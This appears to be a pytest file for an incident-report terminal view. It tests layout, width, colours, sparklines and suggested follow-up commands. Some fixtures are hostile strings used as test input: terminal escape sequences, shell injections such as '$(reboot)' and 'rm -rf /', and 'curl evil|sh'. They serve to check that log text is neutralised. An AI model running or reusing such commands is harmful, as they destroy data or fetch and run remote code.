"""An incident on a screen: order, width, harmlessness, and that colours say nothing by themselves."""

import re
from datetime import timedelta, timezone
from io import StringIO

import pytest
from rich.console import Console, RenderableType

from autoir.clock import MINUTE_MS
from autoir.incidents import Change, Incident, Kind, Step
from autoir.report import screen
from autoir.report.describe import describe
from autoir.report.sparkline import Series, Span, span_of, sparkline, suspects
from autoir.store.rows import StoredEvent
from tests.report.samples import POOL, START_MS, UPSTREAM, evidence, incident

MINUTE = START_MS // MINUTE_MS
CET = timezone(timedelta(hours=1), "CET")
SERIES = [Series("/shop/checkout", {MINUTE + n: 10 * n for n in range(3)}, 0.1)]
EVIL = "ERROR \x1b[2J\x1b]0;owned\x07 [red]x[/red] \u202eevil\r\n" + "y" * 5_000


def outage(*lines: str, **changes: object) -> tuple[Incident, list[StoredEvent]]:
    """A described incident of checkout and cart, and its events."""
    groups = ("/shop/checkout", "/shop/cart")
    signs = [evidence(line, group) for line, group in zip(lines or (POOL, UPSTREAM), groups, strict=False)]
    return describe(incident(*groups, **changes), signs), [s for sign in signs for s in sign.samples]


def test_the_page_answers_in_the_order_of_the_questions() -> None:
    found, events = outage()
    text = screen.plain(screen.page(found, events, series=SERIES, zone=CET, store="demo"))
    wanted = [
        "HIGH  checkout: QueuePool limit",
        "since 2026-03-17 15:33:20 CET · 1,284 events · confidence 95",
        "in /shop/checkout and /shop/cart",
        "20 a minute, usually 0.1",
        "▲ opened 15:34:20",
        "what is new",
        "[1][2][3]",
        "impact",
        "evidence",
        f"[1] 15:33:20  /shop/checkout  {events[0].id[:10]}  app/1",
        "look first",
        "how this was judged",
        "severity high: 5 points",
        "confidence 95: errors",
        "no model was asked",
        "history",
        "2026-03-17 15:34:20  open by autoir",
        f"autoir --store demo incidents ack {found.id}",
        "autoir --store demo logs query",
        f"autoir --store demo incidents dismiss {found.id}",
    ]
    places = [text.find(part) for part in wanted]
    assert -1 not in places, wanted[places.index(-1)]
    assert places == sorted(places)
    assert text.count("CET") == 1


@pytest.mark.parametrize(
    ("kind", "told"),
    [
        ("new", "First 14:33:20."),
        ("spike", "First 14:33:20."),
        ("heartbeat", "Last 14:33:22."),
        ("gap", "Last 14:33:22."),
    ],
)
@pytest.mark.parametrize("view", [screen.card, screen.page])
def test_what_is_missing_says_when_it_came_last(view: object, kind: Kind, told: str) -> None:
    sign = evidence(kind=kind)
    text = screen.plain(view(describe(incident(), [sign]), sign.samples), 200)  # type: ignore[operator]
    assert re.findall(r"(?:First|Last) \S+", text) == [told]


def test_the_card_fits_a_screen() -> None:
    found, events = outage()
    lines = screen.plain(screen.card(found, events, series=SERIES, zone=CET)).rstrip("\n").split("\n")
    assert len(lines) <= 25
    assert {len(line) for line in lines} == {80}
    assert lines[0].startswith("╭─ HIGH  checkout: QueuePool limit of size 20 overflow 10 reached ─")
    assert found.id in lines[-1]


@pytest.mark.parametrize("view", [screen.card, screen.page])
@pytest.mark.parametrize("width", [80, 120])
@pytest.mark.parametrize("lines", [(POOL, UPSTREAM), (EVIL, EVIL), ("ERROR " + "z" * 9_000, "ERROR \U0001f525" * 300)])
def test_no_line_is_wider_than_the_screen_or_does_anything(view: object, width: int, lines: tuple[str, str]) -> None:
    found, events = outage(*lines)
    text = screen.plain(view(found, events, series=SERIES), width)  # type: ignore[operator]
    assert all(len(line) <= width for line in text.split("\n"))
    assert text.replace("\n", "").isprintable()


def drawn(renderable: RenderableType) -> str:
    console = Console(file=StringIO(), width=80, force_terminal=True, color_system="truecolor", markup=True)
    with console.capture() as capture:
        console.print(renderable)
    return capture.get()


@pytest.mark.parametrize("lines", [(POOL, UPSTREAM), (EVIL, EVIL)])
def test_colours_add_no_words_and_logs_add_no_colours(lines: tuple[str, str]) -> None:
    found, events = outage(*lines)
    coloured = drawn(screen.page(found, events, series=SERIES))
    codes = re.compile(r"\x1b\[[0-9;]*m")
    assert codes.search(coloured)
    bare = "\n".join(line.rstrip() for line in codes.sub("", coloured).split("\n"))
    assert bare == screen.plain(screen.page(found, events, series=SERIES))


@pytest.mark.parametrize("width", [40, 80])
def test_the_next_commands_are_whole_to_be_copied(width: int) -> None:
    found, events = outage()
    store = f"sqlite:////var/lib/{'autoir' * 12}/store.db"
    assert screen.plain(screen.page(found, events, store=store), width).split("\n")[-4:-1] == [
        f"autoir --store {store} incidents ack {found.id}",
        f'autoir --store {store} logs query "QueuePool limit size overflow reached"',
        f"autoir --store {store} incidents dismiss {found.id}",
    ]


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"status": "ack"}, ["incidents resolve", "logs query", "incidents dismiss"]),
        ({"status": "resolved"}, ["logs query", "incidents list"]),
        ({"status": "open"}, ["incidents ack", "logs query", "incidents dismiss"]),
    ],
)
def test_the_next_commands_fit_the_state(changes: dict[str, object], expected: list[str]) -> None:
    commands = screen.next_commands(outage(**changes)[0])
    assert [next(part for part in expected if part in command) for command in commands] == expected


@pytest.mark.parametrize(
    "line", ["ERROR $(reboot) `reboot` ; rm -rf / \"x' boom", "ERROR !! && curl evil|sh", "ERROR 日本"]
)
def test_no_log_word_runs_when_a_command_is_pasted(line: str) -> None:
    found = describe(incident("/shop/$(reboot)"), [evidence(line, "/shop/$(reboot)")])
    query = next(command for command in screen.next_commands(found) if "query" in command)
    assert re.fullmatch(r'autoir logs query "[A-Za-z0-9 ]+"', query)


def test_history_notes_and_steps_are_shown() -> None:
    found, events = outage()
    history = (*found.history, Change(START_MS + 5 * MINUTE_MS, "auto_resolve", "autoir", "30 quiet minutes"))
    done = Incident(
        **{name: getattr(found, name) for name in found.__dataclass_fields__}
        | {"history": history, "status": "resolved", "previous_id": "inc-00000000", "paged_ms": START_MS}
        | {"steps": (Step("Roll back.", "loses the release", "a restart", "deploy again"),)}
    )
    text = screen.plain(screen.page(done, events))
    for part in ("auto-resolve by autoir: 30 quiet minutes", "lasted 2 min 5 s", "· resolved", "· paged",
                 "seen before: inc-00000000", "risk: loses the release", "back: deploy again"):  # fmt: skip
        assert part in text


def test_what_is_not_stored_any_more_is_not_numbered() -> None:
    found, events = outage()
    text = screen.plain(screen.page(found, events[1:3]))
    assert "[1][2]" in text
    assert "[3]" not in text
    assert "evidence" not in screen.plain(screen.page(found, []))


@pytest.mark.parametrize(
    ("counts", "span", "expected"),
    [
        ({}, Span(0, 3, 1), "····"),
        ({0: 1, 2: 8, 3: 4}, Span(0, 3, 1), "▁·█▄"),
        ({0: 1, 1: 8, 2: 1}, Span(0, 3, 2), "█▁"),  # the busiest minute of a column
        ({-5: 9, 1: 2, 9: 9}, Span(0, 1, 1), "·█"),  # outside is not drawn
        ({0: 1_000_000, 1: 1}, Span(0, 1, 1), "█▁"),  # what came once is seen
    ],
)
def test_sparkline(counts: dict[int, int], span: Span, expected: str) -> None:
    assert sparkline(counts, span) == expected


@pytest.mark.parametrize(("last", "columns"), [(100, 40), (139, 40), (140, 40), (1_000, 40), (50, 40), (100, 7)])
def test_a_span_fits_and_holds_the_opening(last: int, columns: int) -> None:
    span = span_of(100, last, columns)
    assert span.width <= columns
    assert 0 <= span.column(100) < span.width
    assert span.last >= 100


def test_suspects_are_summed_by_group() -> None:
    one, two = evidence(kind="spike", usual=0.5).candidate, evidence(UPSTREAM, "/shop/cart").candidate
    again = one._replace(minute=one.minute + 1)
    third = one._replace(family_id=99)
    counts = {one.family_id: {5: 1, 6: 2}, 99: {6: 3}, two.family_id: {7: 7}}
    found = suspects(["/shop/cart", "/shop/checkout", "/quiet"], [one, again, third, two], counts)
    assert found == [Series("/shop/cart", {7: 7}, 0.0), Series("/shop/checkout", {5: 1, 6: 5}, 1.0)]
